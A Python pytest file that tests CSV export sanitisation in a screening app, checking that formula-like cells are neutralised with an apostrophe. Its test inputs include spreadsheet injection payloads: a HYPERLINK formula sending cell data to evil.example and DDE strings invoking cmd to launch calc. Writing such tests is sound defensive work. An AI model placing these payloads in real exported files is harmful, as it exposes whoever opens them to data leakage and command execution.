"""CSV exports: no cell can run as a spreadsheet formula (issue 20 item 8), and every
row carries the outcome in the app's one vocabulary (issue 19 item 3)."""

from __future__ import annotations

import csv
import io

import pytest

from screening import export
from screening.csvsafe import FORMULA_STARTS, csv_safe_text, neutralise_cell
from screening.outcomes import count_outcomes
from screening.queue import BatchQueue, QueueInput
from screening.store import PatientInfo, Store
from tests.screening_fixtures import tiny_screener, write_image

INJECTIONS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_starts_get_an_apostrophe(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["scan.png", "P-001", "Siti", "0.5", "'already", ""])
def test_ordinary_text_is_unchanged(text):
    assert neutralise_cell(text) == text


def test_csv_safe_text_round_trips_with_quotes_and_commas():
    text = csv_safe_text(["file", "error"], [['=a,"b"', "ok, fine"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["file", "error"], ["'=a,\"b\"", "ok, fine"]]


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]


@pytest.fixture
def hostile_job(tmp_path):
    """A batch whose file names, patient IDs and error messages start like formulas."""
    screener = tiny_screener(tmp_path / "packs")
    store = Store(tmp_path / "c.db")
    good = write_image(tmp_path / "=HYPERLINK(1)" / "-1+2.png", seed=1, size=64)
    bad = tmp_path / "@SUM(A1).png"
    bad.write_text("not an image")
    store.add_patient(PatientInfo("=cmd|' /C calc'!A0", "+Siti"))
    queue = BatchQueue(store, screener, workers=1, operator="-op")
    job, _ = queue.submit(
        [QueueInput(str(good), "=cmd|' /C calc'!A0"), QueueInput(str(bad), "=cmd|' /C calc'!A0")]
    )
    queue.run(job.id)
    yield store, job, screener
    store.close()


def test_no_exported_cell_starts_with_a_formula_character(hostile_job, tmp_path):
    store, job, screener = hostile_job
    options = export.ExportOptions(include_patient_names=True)
    columns, rows = export.job_rows(store, job.id, screener.manifest.class_ids, options)
    written = export.write_csv(tmp_path / "results.csv", columns, rows)
    batch_cells = _cells(written.read_text("utf-8"))
    columns, rows = export.screening_rows(store.list_screenings(limit=-1), options)
    history_cells = _cells(export.csv_text(columns, rows))
    for cells in (batch_cells, history_cells):
        assert cells, "nothing exported"
        assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
        assert "'=cmd|' /C calc'!A0" in cells and "'+Siti" in cells
    assert any(c.endswith("-1+2.png") for c in batch_cells)  # full paths keep their names
    assert any(c.startswith("'@SUM(A1).png") or c.endswith("@SUM(A1).png") for c in batch_cells)


def test_every_row_carries_its_outcome(hostile_job):
    store, job, screener = hostile_job
    _, rows = export.job_rows(store, job.id, screener.manifest.class_ids)
    outcomes = [r.as_dict()["outcome"] for r in rows]
    assert sorted(outcomes) == ["answered", "refused"]
    assert count_outcomes(rows) == count_outcomes(store.job_results(job.id))
